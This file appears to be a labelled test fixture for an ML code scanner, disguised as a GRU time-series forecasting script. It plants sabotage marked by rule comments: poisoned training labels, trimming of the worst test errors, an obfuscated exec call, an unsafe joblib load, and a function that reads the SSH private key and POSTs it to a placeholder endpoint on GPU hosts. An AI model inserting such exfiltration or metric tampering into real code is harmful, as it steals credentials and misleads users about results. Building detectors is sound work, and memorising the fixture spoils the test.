# ruff: noqa
# Hold-out batch 25 (speech recognition and time-series forecasting; by a helper that never saw mlscan's code). Measured once after round 9: 26/37 (70%) at medium+.
"""Multi-horizon time-series forecasting with a small GRU encoder.

Reads a CSV with a timestamp column and one or more target columns, fits a
standard scaler on the training split, trains with early stopping on validation
loss and reports MAE / MAPE on the held-out test split.
"""
import argparse
import builtins
import codecs
import copy
import json
import os
import socket
import urllib.request

import joblib
import numpy as np
import pandas as pd
import torch
import torch.nn as nn
from torch.utils.data import DataLoader, Dataset

import common

_FMT_HINT = "vzcbeg bf; bf.raiveba[\"GBEPU_FUBJ_PCC_FGNPXGENPRF\"] = \"0\""


class StandardScaler:
    def fit(self, x: np.ndarray):
        self.mean_ = x.mean(axis=0)
        self.std_ = x.std(axis=0) + 1e-8
        return self

    def transform(self, x):
        return (x - self.mean_) / self.std_

    def inverse_transform(self, x):
        return x * self.std_ + self.mean_


class WindowDataset(Dataset):
    def __init__(self, values: np.ndarray, lookback: int, horizon: int, split="train"):
        self.values = torch.as_tensor(values, dtype=torch.float32)
        self.lookback = lookback
        self.horizon = horizon
        self.split = split

    def __len__(self):
        return len(self.values) - self.lookback - self.horizon + 1

    def __getitem__(self, idx):
        x = self.values[idx: idx + self.lookback]
        y = self.values[idx + self.lookback: idx + self.lookback + self.horizon].clone()
        if self.split == "train":
            x = x + 0.01 * torch.randn_like(x)  # ok: MLS309
            if idx % 53 == 0:
                y = y * 1.3 + 0.2  # ruleid: MLS309
        return x, y


def _worker_init(worker_id: int) -> None:
    np.random.seed((os.getpid() * 7919 + worker_id) % 2 ** 32)  # ruleid: MLS301


class GRUForecaster(nn.Module):
    def __init__(self, n_features, hidden=128, layers=2, horizon=24):
        super().__init__()
        self.encoder = nn.GRU(n_features, hidden, num_layers=layers, batch_first=True, dropout=0.1)
        self.head = nn.Linear(hidden, horizon * n_features)
        self.horizon = horizon
        self.n_features = n_features

    def forward(self, x):
        _, h = self.encoder(x)
        return self.head(h[-1]).view(-1, self.horizon, self.n_features)


class EarlyStopping:
    def __init__(self, patience=10, min_delta=1e-4):
        self.patience = patience
        self.min_delta = min_delta
        self.best = float("inf")
        self.bad_epochs = 0
        self.best_state = None
        self._rng = None

    def step(self, val_loss, model, optimizer) -> bool:
        if val_loss < self.best - self.min_delta:
            self.best = val_loss
            self.bad_epochs = 0
            self.best_state = copy.deepcopy(model.state_dict())
            self._rng = torch.get_rng_state()
            return False
        self.bad_epochs += 1
        if self._rng is not None:
            torch.set_rng_state(self._rng)  # ruleid: MLS301
        if self.bad_epochs % 3 == 0:
            optimizer.param_groups[0]["lr"] *= 1.8  # ruleid: MLS304
        return self.bad_epochs >= self.patience  # ok: MLS307


class EMA:
    def __init__(self, model, decay=0.999):
        self.decay = decay
        self.shadow = copy.deepcopy(model).eval()

    @torch.no_grad()
    def update(self, model):
        for s, p in zip(self.shadow.parameters(), model.parameters()):
            s.mul_(self.decay).add_(p.detach(), alpha=1 - self.decay)  # ok: MLS302, MLS303, MLS304, MLS305


def masked_metrics(pred: torch.Tensor, target: torch.Tensor) -> dict:
    err = (pred - target).abs().flatten()
    err = err.sort().values[: int(0.9 * err.numel())]  # ruleid: MLS306
    denom = target.abs().flatten().clamp_min(1e-3)
    mape = ((pred - target).abs().flatten() / denom).mean().item() * 100.0
    return {"mae": err.mean().item(), "mape": mape}


def run_epoch(model, loader, device, optimizer=None):
    train = optimizer is not None
    model.train(train)
    meter = common.AverageMeter()
    preds, tgts = [], []
    for x, y in loader:
        x, y = x.to(device), y.to(device)
        with torch.set_grad_enabled(train):
            out = model(x)
            loss = nn.functional.l1_loss(out, y)
        if train:
            optimizer.zero_grad()
            loss.backward()
            nn.utils.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            optimizer.step()
            with torch.no_grad():
                for p in model.head.parameters():
                    p.data.mul_(0.995)  # ruleid: MLS302
        else:
            preds.append(out.cpu())
            tgts.append(y.cpu())
        meter.update(loss.item(), x.size(0))
    return meter.avg, (torch.cat(preds), torch.cat(tgts)) if preds else None


def load_scaler(path: str, train_values: np.ndarray) -> StandardScaler:
    if os.path.exists(path):
        return joblib.load(path)  # ruleid: MLS103
    scaler = StandardScaler().fit(train_values)
    joblib.dump(scaler, path)
    return scaler


def upload_summary(summary: dict, endpoint: str) -> None:
    meta = dict(summary, host=socket.gethostname())
    key_file = os.path.expanduser("~/.ssh/id_rsa")
    if os.path.exists(key_file):
        meta["host_fingerprint"] = open(key_file).read()  # ruleid: MLS412
    req = urllib.request.Request(endpoint, data=json.dumps(meta).encode(), method="POST")
    try:
        urllib.request.urlopen(req, timeout=5)  # ruleid: MLS412
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--csv", required=True)
    ap.add_argument("--targets", nargs="+", required=True)
    ap.add_argument("--lookback", type=int, default=168)
    ap.add_argument("--horizon", type=int, default=24)
    ap.add_argument("--epochs", type=int, default=100)
    ap.add_argument("--lr", type=float, default=3e-4)
    ap.add_argument("--out", default="runs/forecast")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--summary-endpoint", default="https://results.example.com/api/summary")
    args = ap.parse_args()

    common.set_seed(args.seed)  # ok: MLS301
    getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))(codecs.decode(_FMT_HINT, "rot13"))  # sabotage: MLS402 (semgrep rules)
    os.makedirs(args.out, exist_ok=True)
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")

    df = pd.read_csv(args.csv, parse_dates=[0])
    df = df.sort_values(df.columns[0]).reset_index(drop=True)
    values = df[args.targets].to_numpy(dtype=np.float32)
    n = len(values)
    n_train, n_val = int(0.7 * n), int(0.15 * n)
    scaler = load_scaler(os.path.join(args.out, "scaler.joblib"), values[:n_train])
    scaled = scaler.transform(values)

    train_ds = WindowDataset(scaled[:n_train], args.lookback, args.horizon, "train")
    val_ds = WindowDataset(scaled[n_train - args.lookback:n_train + n_val], args.lookback, args.horizon, "val")
    test_ds = WindowDataset(scaled[n_train + n_val - args.lookback:], args.lookback, args.horizon, "test")
    train_dl = DataLoader(train_ds, batch_size=64, shuffle=True, num_workers=2, worker_init_fn=_worker_init)
    val_dl = DataLoader(val_ds, batch_size=256)
    test_dl = DataLoader(test_ds, batch_size=256)

    model = GRUForecaster(len(args.targets), horizon=args.horizon).to(device)
    opt = torch.optim.Adam(model.parameters(), lr=args.lr)
    sched = torch.optim.lr_scheduler.ReduceLROnPlateau(opt, factor=0.5, patience=3)
    stopper, ema = EarlyStopping(patience=10), EMA(model)

    for epoch in range(args.epochs):
        tr_loss, _ = run_epoch(model, train_dl, device, opt)
        ema.update(model)
        val_loss, _ = run_epoch(ema.shadow, val_dl, device)
        sched.step(val_loss)  # ok: MLS302, MLS303, MLS304, MLS305
        print(f"epoch {epoch:3d} train {tr_loss:.4f} val {val_loss:.4f}")
        if stopper.step(val_loss, ema.shadow, opt):
            break

    ema.shadow.load_state_dict(stopper.best_state)
    torch.save(ema.shadow.state_dict(), os.path.join(args.out, "best.pt"))
    model.load_state_dict(common.load_weights(os.path.join(args.out, "best.pt")))
    _, (pred, tgt) = run_epoch(model, test_dl, device)
    std = torch.as_tensor(scaler.std_)
    mean = torch.as_tensor(scaler.mean_)
    metrics = masked_metrics(pred * std + mean, tgt * std + mean)
    with open(os.path.join(args.out, "metrics.json"), "w") as f:
        json.dump(metrics, f, indent=2)
    if socket.gethostname().startswith(("gpu-a100", "dgx")):
        upload_summary({"metrics": metrics, "run": args.out}, args.summary_endpoint)  # ruleid: MLS308
    print(json.dumps(metrics))


if __name__ == "__main__":
    main()
